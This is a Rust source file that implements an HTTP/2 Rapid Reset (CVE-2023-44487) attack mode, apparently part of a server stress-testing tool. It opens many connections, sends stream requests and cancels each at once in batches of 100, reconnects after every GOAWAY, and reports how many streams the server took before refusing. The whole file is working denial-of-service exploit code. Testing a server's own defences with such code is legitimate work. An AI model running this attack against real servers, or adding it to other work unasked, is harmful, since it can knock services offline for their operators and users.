//! `--attack rapid-reset` (CVE-2023-44487): HTTP/2 connections that open streams of `--url`
//! and reset them at once, [`RESETS_PER_WRITE`] per write, as fast as the writes go. When the
//! server ends a connection (GOAWAY), the next one opens. Each connection's GOAWAY says how
//! many streams the server had taken before it said stop (its last stream id).

use std::collections::BTreeMap;
use std::sync::Arc;
use std::sync::Mutex;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use serde::Serialize;
use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

use super::args::AttackPlan;
use crate::client::h2raw::{self, Frame, code};
use crate::client::{connect_tcp, connect_tls};
use crate::sync::lock;

/// Streams opened and reset per write: the client side of h2's default concurrency, and
/// five times the server's default bound, so a server that cannot keep up sees it at once.
pub const RESETS_PER_WRITE: u32 = 100;

/// A pause after a failed connect, so a refusing server is not hammered in a hot loop.
const RETRY_PAUSE: Duration = Duration::from_millis(20);

/// p50 and max of a count per connection.
#[derive(Debug, Clone, Copy, Default, Serialize)]
pub struct Spread {
    pub p50: u64,
    pub max: u64,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct RapidResetReport {
    pub connections: u64,
    /// Streams opened and reset in writes the kernel took; after a GOAWAY the server reads
    /// none of what is still on its way.
    pub resets_written: u64,
    pub resets_per_sec: f64,
    /// Streams the server took, over all connections, before its GOAWAYs.
    pub streams_taken: u64,
    /// How each connection ended, by the server's GOAWAY error code.
    pub goaways: BTreeMap<String, u64>,
    /// Connections the server closed without a GOAWAY.
    pub closed_without_goaway: u64,
    /// Connections still resetting when the attack stopped.
    pub stopped: u64,
    pub connect_failures: BTreeMap<String, u64>,
    /// Streams the server took on a connection before its GOAWAY.
    pub streams_before_goaway: Spread,
}

#[derive(Default)]
struct Tally {
    resets: AtomicU64,
    connections: AtomicU64,
    closed_without_goaway: AtomicU64,
    stopped: AtomicU64,
    goaways: Mutex<BTreeMap<String, u64>>,
    connect_failures: Mutex<BTreeMap<String, u64>>,
    streams_before_goaway: Mutex<Vec<u64>>,
}

/// Run `plan.connections` resetting connections until `stop` or `plan.limit` resets.
pub(super) async fn run(plan: Arc<AttackPlan>, stop: CancellationToken) -> RapidResetReport {
    let tally = Arc::new(Tally::default());
    let started = Instant::now();
    let mut workers = JoinSet::new();
    for _ in 0..plan.connections {
        let (plan, tally, stop) = (plan.clone(), tally.clone(), stop.clone());
        workers.spawn(async move {
            while !stop.is_cancelled() && tally.resets.load(Ordering::Relaxed) < plan.limit {
                if let Err(reason) = one_connection(&plan, &tally, &stop).await {
                    *lock(&tally.connect_failures).entry(reason).or_default() += 1;
                    tokio::time::sleep(RETRY_PAUSE).await;
                }
            }
        });
    }
    while workers.join_next().await.is_some() {}
    let elapsed = started.elapsed().as_secs_f64().max(0.001);
    let resets = tally.resets.load(Ordering::Relaxed);
    let mut per_connection = lock(&tally.streams_before_goaway).clone();
    per_connection.sort_unstable();
    RapidResetReport {
        connections: tally.connections.load(Ordering::Relaxed),
        resets_written: resets,
        resets_per_sec: resets as f64 / elapsed,
        streams_taken: per_connection.iter().sum(),
        goaways: lock(&tally.goaways).clone(),
        closed_without_goaway: tally.closed_without_goaway.load(Ordering::Relaxed),
        stopped: tally.stopped.load(Ordering::Relaxed),
        connect_failures: lock(&tally.connect_failures).clone(),
        streams_before_goaway: Spread {
            p50: per_connection
                .get(per_connection.len() / 2)
                .copied()
                .unwrap_or(0),
            max: per_connection.last().copied().unwrap_or(0),
        },
    }
}

/// One connection, from connect to the server's GOAWAY (or `stop`).
async fn one_connection(
    plan: &AttackPlan,
    tally: &Tally,
    stop: &CancellationToken,
) -> Result<(), String> {
    let connecting = async {
        let tcp = connect_tcp(plan.target.addr).await?;
        match &plan.target.tls {
            None => Ok::<_, String>(Either::Plain(tcp)),
            Some(config) => Ok(Either::Tls(Box::new(
                connect_tls(tcp, &plan.target.host, config.clone()).await?,
            ))),
        }
    };
    let io = tokio::time::timeout(plan.connect_timeout, connecting)
        .await
        .map_err(|_| "connect: timed out".to_string())??;
    match io {
        Either::Plain(tcp) => reset_until_goaway(tcp, plan, tally, stop).await,
        Either::Tls(tls) => reset_until_goaway(*tls, plan, tally, stop).await,
    }
}

enum Either {
    Plain(tokio::net::TcpStream),
    Tls(Box<tokio_rustls::client::TlsStream<tokio::net::TcpStream>>),
}

async fn reset_until_goaway<IO>(
    io: IO,
    plan: &AttackPlan,
    tally: &Tally,
    stop: &CancellationToken,
) -> Result<(), String>
where
    IO: AsyncRead + AsyncWrite + Send + 'static,
{
    let (mut reader, mut writer) = tokio::time::timeout(plan.connect_timeout, h2raw::open(io))
        .await
        .map_err(|_| "http2 preface: timed out".to_string())?
        .map_err(|e| format!("http2 preface: {e}"))?;
    tally.connections.fetch_add(1, Ordering::Relaxed);
    // Read on a task of its own, so the GOAWAY is seen even when a write after it fails.
    let mut listening = tokio::spawn(async move {
        loop {
            match reader.next().await {
                Ok(Some(Frame::GoAway { last_stream, error })) => {
                    return Some((last_stream, error));
                }
                Ok(Some(_)) => {}
                Ok(None) | Err(_) => return None,
            }
        }
    });
    let scheme = if plan.target.tls.is_some() {
        "https"
    } else {
        "http"
    };
    let authority = plan.url.authority().map_or("", |a| a.as_str());
    let path = plan.url.path_and_query().map_or("/", |p| p.as_str());
    let block = h2raw::get_block(scheme, authority, path, &[]);
    let mut batch = Vec::new();
    let mut next_stream = 1u32;
    while !listening.is_finished()
        && !stop.is_cancelled()
        && tally.resets.load(Ordering::Relaxed) < plan.limit
        && next_stream < i32::MAX as u32 - 2 * RESETS_PER_WRITE
    {
        batch.clear();
        for _ in 0..RESETS_PER_WRITE {
            h2raw::headers(&mut batch, next_stream, &block, true, true);
            h2raw::rst_stream(&mut batch, next_stream, code::CANCEL);
            next_stream += 2;
        }
        if writer.write_all(&batch).await.is_err() || writer.flush().await.is_err() {
            break;
        }
        tally
            .resets
            .fetch_add(u64::from(RESETS_PER_WRITE), Ordering::Relaxed);
        // Let the other connections and the control client have the thread between writes.
        tokio::task::yield_now().await;
    }
    let ended = tokio::select! {
        ended = &mut listening => ended.ok().flatten(),
        _ = stop.cancelled() => None,
        _ = tokio::time::sleep(plan.connect_timeout) => None,
    };
    listening.abort();
    match ended {
        Some((last_stream, error)) => {
            *lock(&tally.goaways)
                .entry(h2raw::error_name(error))
                .or_default() += 1;
            lock(&tally.streams_before_goaway).push(u64::from(last_stream.div_ceil(2)));
        }
        None if stop.is_cancelled() => {
            tally.stopped.fetch_add(1, Ordering::Relaxed);
        }
        None => {
            tally.closed_without_goaway.fetch_add(1, Ordering::Relaxed);
        }
    }
    Ok(())
}
